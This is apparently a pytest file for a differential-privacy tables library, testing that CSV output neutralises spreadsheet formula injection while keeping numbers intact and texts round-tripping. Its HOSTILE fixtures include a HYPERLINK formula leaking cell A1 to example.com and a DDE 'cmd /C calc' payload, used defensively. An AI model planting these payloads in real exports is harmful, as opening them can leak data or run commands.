"""Text tables that a spreadsheet may open: no cell is run there, numbers stay numbers, and every text comes back as it was."""

import csv
import io
import json
import re
from pathlib import Path

import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given, strategies as st
from typer.testing import CliRunner

import discreet as dc
from discreet.cli._app import app
from discreet.estimation._client_tables import refuse_clients_in_several_sources
from discreet.tables import Request, Secret, sample_file
from discreet.tables._sources._opening import open_table_writer, source_of_table
from discreet.tables._sources._text_files import spreadsheet_guarded_expression, spreadsheet_unguarded_expression

RUN = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?", re.ASCII)
ATTACK = '=HYPERLINK("http://example.com/?"&A1,"open me")'
HOSTILE = [
    ATTACK,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "'=1",
    "''=1",
    "'",
    "a",
    "-1",
    "+1.5",
    "-.5e3",
    "'-1",
]


def written(texts: list[str]) -> list[str]:
    return pl.select(spreadsheet_guarded_expression(pl.lit(pl.Series(texts, dtype=pl.String)))).to_series().to_list()


def read(texts: list[str]) -> list[str]:
    return pl.select(spreadsheet_unguarded_expression(pl.lit(pl.Series(texts, dtype=pl.String)))).to_series().to_list()


@given(
    st.lists(
        st.text(alphabet=st.sampled_from("'=+-@1.e a\t\r\n\uff1d"))
        | st.text()
        | st.floats().map(str)
        | st.integers().map(str)
    )
)
def test_no_cell_is_run_and_every_text_comes_back(texts: list[str]) -> None:
    cells = written(texts)
    assert read(cells) == texts
    for text, cell in zip(texts, cells, strict=True):
        assert not cell.startswith(RUN) or NUMBER.fullmatch(cell)
        assert cell in (text, "'" + text)
        if NUMBER.fullmatch(text) or not text.lstrip("'").startswith(RUN):
            assert cell == text
    assert len(set(cells)) == len(set(texts))


def test_columns_of_numbers_are_not_touched(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    schema = pa.schema([("client", pa.int64()), ("sample", pa.float64())])
    with open_table_writer(str(path), schema, "csv", replace=False) as writer:
        writer.write(pa.RecordBatch.from_arrays([pa.array([-1, 2]), pa.array([-0.5, 3.0])], schema=schema))
    assert path.read_text().splitlines()[1:] == ["-1,-0.5", "2,3"]


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_a_release_of_hostile_labels_and_names_is_estimated_as_it_was(tmp_path: Path, ending: str) -> None:
    """At an epsilon that makes every sample the client's own, so that the estimate shows each label's count."""
    labels = HOSTILE
    names = [f"{name} {place}" for place, name in enumerate(labels)]
    table, out = tmp_path / "rows.parquet", tmp_path / f"private.{ending}"
    pl.DataFrame({"who": names * 2, "what": labels * 2}).write_parquet(table)
    sampler = dc.LinearSampler(dc.Simplex(labels), epsilon=40.0)
    agreement = dc.Agreement.of(sampler)
    agreement.write(tmp_path / "agreement.json")
    assert dc.Agreement.read(tmp_path / "agreement.json").id == agreement.id
    sample_file(
        str(table), str(out), Request(client="who", value="what", agreement=agreement, secret=Secret(bytes(32)))
    )
    if ending == "csv":
        header, *rows = csv.reader(io.StringIO(out.read_bytes().decode(), newline=""))
        assert header == ["who", "sample", "agreement"]
        assert len(rows) == len(labels)
        for row in rows:
            assert not any(cell.startswith(RUN) and not NUMBER.fullmatch(cell) for cell in row)
        assert {row[1] for row in rows} == set(written(labels))
    result = CliRunner().invoke(app, ["estimate", str(out), "--agreement", str(tmp_path / "agreement.json"), "--json"])
    assert result.exit_code == 0, result.output
    found = json.loads(result.stdout)
    assert {share["outcome"]: share["samples"] for share in found["shares"]} == dict.fromkeys(labels, 1)


def test_a_client_is_known_again_behind_an_apostrophe(tmp_path: Path) -> None:
    """Each client speaks once, in whichever format the two files are."""
    names = [ATTACK, "'=1", "ann"]
    frame = pl.DataFrame({"who": names, "sample": [0, 1, 2], "agreement": ["x"] * 3})
    path = tmp_path / "one.csv"
    table = frame.to_arrow()
    with open_table_writer(str(path), table.schema, "csv", replace=False) as writer:
        for batch in table.to_batches():
            writer.write(batch)
    with pytest.raises(dc.DiscreetError, match="3 of the 3 clients"):
        refuse_clients_in_several_sources([source_of_table(str(path)), source_of_table(frame)])
    assert refuse_clients_in_several_sources(
        [source_of_table(str(path)), source_of_table(frame.with_columns(pl.col("who") + "!"))]
    )


def test_tables_of_others_are_read_as_they_stand(tmp_path: Path) -> None:
    """An apostrophe in a table of records is a client's own: only samples are read back."""
    path = tmp_path / "rows.csv"
    path.write_text("who,what\n'=1,'=a\n=1,=a\n")
    found = dc.tables.sample(str(path), client="who", value="what", domain=["'=a", "=a"], epsilon=1.0)
    assert sorted(found["who"].to_pylist()) == ["'=1", "=1"]
